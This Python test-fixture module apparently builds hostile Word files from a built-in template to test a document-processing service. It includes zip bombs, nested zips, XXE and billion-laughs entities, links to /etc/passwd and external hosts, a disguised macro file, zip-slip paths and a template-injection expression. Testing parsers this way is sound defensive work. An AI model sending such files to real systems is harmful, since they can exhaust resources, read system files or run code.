"""Word files that somebody sends to do harm, each made of the built-in template."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from itertools import pairwise
from pathlib import Path

BUILT_IN = Path(__file__).resolve().parents[2] / "templates" / "bao_cao.docx"
_BODY = "word/document.xml"
_TYPES = "[Content_Types].xml"
_LINKS = "word/_rels/document.xml.rels"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(change: dict[str, Callable[[bytes], bytes]], **more: bytes) -> bytes:
    """The built-in template with some of its parts changed, and others added (name -> bytes)."""
    out = BytesIO()
    with zipfile.ZipFile(BUILT_IN) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            new.writestr(name, change[name](part) if name in change else part)
        for name, part in more.items():
            new.writestr(name, part)
    return out.getvalue()


def whole() -> bytes:
    return BUILT_IN.read_bytes()


def bomb() -> bytes:
    """100 kB that unpack to 101 MB."""
    return changed({}, **{"word/media/image1.png": bytes(101_000_000)})


def bomb_that_lies() -> bytes:
    """The text has 30 MB, and the directory says that it has ten bytes."""
    data = bytearray(changed({_BODY: lambda part: part + b" " * 30_000_000}))
    entry = data.rindex(_BODY.encode()) - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def nested() -> bytes:
    """A zip in a zip in a zip; a Word file that is none."""
    data = bytes(1_000_000)
    for depth in range(5):
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr(f"{depth}.docx", data)
        data = out.getvalue()
    return data


def linked(attributes: str) -> bytes:
    """With a picture that lies elsewhere."""
    link = f'<Relationship Id="rId900" Type="{_RELS}/image" Target="{{}}" {attributes}/>'
    row = link.format("file:///etc/passwd").encode()
    end = b"</Relationships>"
    return changed({_LINKS: lambda part: part.replace(end, row + end)})


def linked_in_utf_16() -> bytes:
    row = (
        f'<Relationship Id="rId900" Type="{_RELS}/image" '
        f'Target="http://192.0.2.1/x" TargetMode="External"/>'
    )
    end = "</Relationships>"

    def change(part: bytes) -> bytes:
        text = part.decode().replace(end, row + end).split("?>", 1)[-1]
        return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")

    return changed({_LINKS: change})


def linked_template() -> bytes:
    row = (
        f'<Relationship Id="rId901" Type="{_RELS}/attachedTemplate" '
        f'Target="http://192.0.2.1/x.dotm" TargetMode = "External"/>'
    ).encode()
    end = b"</Relationships>"
    return changed({_LINKS: lambda part: part.replace(end, row + end)})


def macros() -> bytes:
    """A .docm with another name."""
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return changed(
        {_TYPES: lambda part: part.replace(plain, kind)}, **{"word/vbaProject.bin": b"x"}
    )


def _declared(declaration: str, used: str) -> bytes:
    def change(part: bytes) -> bytes:
        text = part.decode()
        head, _, rest = text.partition("<w:document")
        begin, body, end = rest.partition("<w:t>")
        assert body
        return f"{head}<!DOCTYPE x [{declaration}]><w:document{begin}<w:t>{used}{end}".encode()

    return changed({_BODY: change})


def laughs() -> bytes:
    """Ten entities, each ten times the one before: 10^10 characters."""
    names = "abcdefghij"
    rows = ['<!ENTITY a "haha">']
    for before, name in pairwise(names):
        rows.append(f'<!ENTITY {name} "{f"&{before};" * 10}">')
    return _declared("".join(rows), "&j;")


def outside() -> bytes:
    """An entity that is a file of this machine."""
    return _declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


def tricky_paths() -> bytes:
    return changed({}, **{"../../../../tmp/hostile-was-here": b"x", "/etc/hostile": b"x"})


def very_long() -> bytes:
    """A hundred thousand paragraphs."""
    row = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000
    return changed({_BODY: lambda part: part.replace(b"<w:sectPr", row + b"<w:sectPr", 1)})


def runs_code(expression: str) -> bytes:
    """With an expression in the place of a name that is known."""
    was = b"{{ r.venue }}"

    def change(part: bytes) -> bytes:
        assert was in part
        return part.replace(was, f"{{{{ {expression} }}}}".encode())

    return changed({_BODY: change})


def half() -> bytes:
    return whole()[:5000]
